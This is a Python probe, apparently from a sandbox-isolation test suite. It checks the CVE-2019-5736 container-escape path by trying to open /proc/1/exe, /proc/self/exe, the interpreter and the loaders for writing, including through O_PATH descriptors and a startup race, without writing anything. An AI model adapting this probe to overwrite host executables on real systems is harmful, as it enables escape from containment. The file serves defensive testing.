"""Overwrite the executables that run on the outside.

Technique: CVE-2019-5736: /proc/<pid>/exe is a descriptor of the very file the host runs, and may be opened for writing once nothing executes it. Tried on
    one's own interpreter, on pid 1, by way of O_PATH descriptors, and while a copy starts and ends.
Success: one opens for writing; nothing is written.
Stopped by: root_filesystem, own_uid
"""
import subprocess


def attack():
    won = []
    paths = ["/proc/1/exe", "/proc/self/exe", f"/proc/{os.getppid()}/exe", sys.executable, os.path.realpath(sys.executable)]
    paths += ["/bin/sh", "/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"]
    for path in paths:
        held = answer(os.open, path, os.O_PATH)
        again = f"/proc/self/fd/{held}" if isinstance(held, int) else path
        for way in (path, again):
            for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_APPEND):
                fd = answer(os.open, way, flags)
                if isinstance(fd, int):
                    won.append(f"{way} ({path})")
                    os.close(fd)
    # ETXTBSY protects a file while it runs: so at its beginnings and ends too.
    held = os.open("/proc/self/exe", os.O_PATH)
    for _ in range(4):
        child = subprocess.Popen([sys.executable, "-S", "-c", ""])
        while child.poll() is None:
            fd = answer(os.open, f"/proc/self/fd/{held}", os.O_WRONLY)
            if isinstance(fd, int):
                won.append("the interpreter, in a race")
                os.close(fd)
        if won:
            break
    return won and f"{won}"


def twin():
    """A copy of an executable is one's own: it may be written to and run."""
    import shutil

    shutil.copy("/usr/bin/true", "/work/copy")
    with open("/work/copy", "r+b") as copy:
        copy.seek(0, os.SEEK_END)
        copy.write(b"more")
    assert subprocess.run(["/work/copy"]).returncode == 0
